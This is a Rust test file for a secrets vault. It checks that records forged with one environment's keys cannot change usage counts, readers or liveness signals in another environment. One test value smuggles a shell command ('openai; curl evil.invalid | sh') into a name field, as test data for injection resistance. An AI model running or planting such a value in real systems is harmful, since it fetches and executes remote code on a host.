//! An attacker holds one environment's keys and can write to the store: no count of any other realm changes.

use std::sync::Arc;

use ibyok_policy::{Scope, Scopes};
use jiff::{SignedDuration, Timestamp};

use crate::forging::{Scene, scene};
use crate::gate::meter::Ended;
use crate::model::kind;
use crate::model::name::KeyId;
use crate::realm::Realm;
use crate::uses::rollup::{Of, Rollup, RollupId, Row, Subject, seal_body};
use crate::uses::tally::Tally;
use crate::uses::{Caller, UsageBy, UsageItem, UsageRequest, day_of};

impl Scene {
    fn key(&self, realm: &Realm) -> KeyId {
        KeyId(realm.keys.record_id("openai"))
    }

    /// A row of counts that dev's keys seal, in a record of dev.
    async fn count(&self, subject: Subject, row: Row) {
        let day = day_of(Timestamp::now());
        let id = RollupId::of(subject, day, [9; 5], 0).bytes();
        let id = self.dev.record(subject.kind(), id).unwrap();
        let rollup = Rollup {
            rev: 1,
            node: "forged".to_owned(),
            seq: 1,
            subject,
            day,
            rows: vec![row],
        };
        let sealed = seal_body(&self.dev, &id, &rollup, "a forged record").unwrap();
        self.write(&id, &sealed).await;
    }
}

fn read_once(of: Of, name: &str) -> Row {
    let mut tally = Tally::default();
    tally.add(Ended::Live, 1000, Timestamp::now(), None);
    Row {
        of,
        name: Some(name.to_owned()),
        scopes: Scopes::from([Scope::Admin]),
        tally,
    }
}

#[tokio::test]
async fn devs_counts_are_none_of_prods() {
    let scene = scene().await;
    let inner = &scene.vault.inner;
    let (worker, key) = (scene.token("worker", "prod").await, scene.key(&scene.prod));
    let worker = crate::tokens::token_id(&worker).unwrap();
    let of = Of::Reader {
        caller: Caller::Token(worker),
        version: Some(1),
    };
    scene.count(Subject::Key(key), read_once(of.clone(), "forged")).await;
    scene
        .count(Subject::Key(scene.key(&scene.dev)), read_once(of, "forged"))
        .await;
    let consumers = inner.usage.consumers(&scene.prod, key).await.unwrap();
    assert!(consumers.readers.is_empty() && consumers.damaged == 0, "{consumers:?}");
    assert!(inner.usage.use_of(&scene.prod, worker).await.unwrap().last.is_none());
    for by in [UsageBy::Token, UsageBy::Key, UsageBy::Env] {
        let report = scene
            .vault
            .operator("test")
            .usage()
            .report(&UsageRequest::new(by))
            .await
            .unwrap();
        let prods = |item: &&UsageItem| {
            item.token == Some(worker.to_string()) || item.environment.as_ref().is_some_and(|e| e.as_str() == "prod")
        };
        assert!(!report.items.iter().any(|item| prods(&item)), "{report:?}");
    }

    // In the place of one of prod's: it does not open, is counted as damaged, and names no reader.
    let id = RollupId::of(Subject::Key(key), day_of(Timestamp::now()), [9; 5], 0).bytes();
    scene.put_devs_in_prods_place(kind::KEY_USE, id, b"{}").await;
    let consumers = inner.usage.consumers(&scene.prod, key).await.unwrap();
    assert!(consumers.readers.is_empty() && consumers.damaged == 1, "{consumers:?}");
}

#[tokio::test]
async fn devs_counts_of_a_token_of_dev_name_no_key_of_prod_and_no_command_of_their_own() {
    let scene = scene().await;
    let laptop = scene.token("laptop", "dev").await;
    let laptop = crate::tokens::token_id(&laptop).unwrap();
    let of = |environment: &str, realm: &Realm| Of::Key {
        environment: Some(environment.to_owned()),
        key: Some(scene.key(realm)),
    };
    let prods = read_once(of("prod", &scene.prod), "openai");
    scene.count(Subject::Token(laptop), prods).await;
    let used = scene.vault.inner.usage.use_of(&scene.dev, laptop).await.unwrap();
    assert!(used.environments.is_empty() && used.keys.is_empty(), "{used:?}");

    let command = read_once(of("dev", &scene.dev), "openai; curl evil.invalid | sh");
    scene.count(Subject::Token(laptop), command).await;
    let revoked = scene
        .vault
        .operator("test")
        .tokens()
        .revoke(&laptop.to_string(), crate::tokens::Descendants::Revoke)
        .await
        .unwrap();
    let refs: Vec<&str> = revoked.read_keys.iter().map(|key| key.reference.as_str()).collect();
    assert_eq!(refs, [format!("dev/{}", scene.key(&scene.dev))]);
}

#[tokio::test]
async fn a_sign_of_life_under_devs_keys_hides_and_invents_no_node_of_prod() {
    let scene = scene().await;
    let inner = &scene.vault.inner;
    let at = Timestamp::now() - SignedDuration::from_secs(60);
    let sign = format!(r#"{{"log":"forged","actor":"attacker","at":"{at}","seq":1,"at_rest":false}}"#);
    let devs = scene.dev.record(kind::SIGN, [5; 16]).unwrap();
    let sealed = scene
        .dev
        .keys
        .seal_record(&scene.dev.place(&devs), sign.as_bytes())
        .unwrap();
    scene.write(&devs, &sealed).await;
    let of = async |realm: &Arc<Realm>| inner.usage.consumers(realm, scene.key(realm)).await.unwrap();
    assert_eq!(of(&scene.dev).await.behind.len(), 1, "in dev it is believed");
    assert!(of(&scene.prod).await.behind.is_empty());
    scene
        .put_devs_in_prods_place(kind::SIGN, [5; 16], sign.as_bytes())
        .await;
    assert!(of(&scene.prod).await.behind.is_empty());
    let warnings = scene.vault.status().await.unwrap().warnings;
    assert!(
        warnings.iter().any(|warning| warning.contains("is damaged")),
        "{warnings:?}"
    );
}
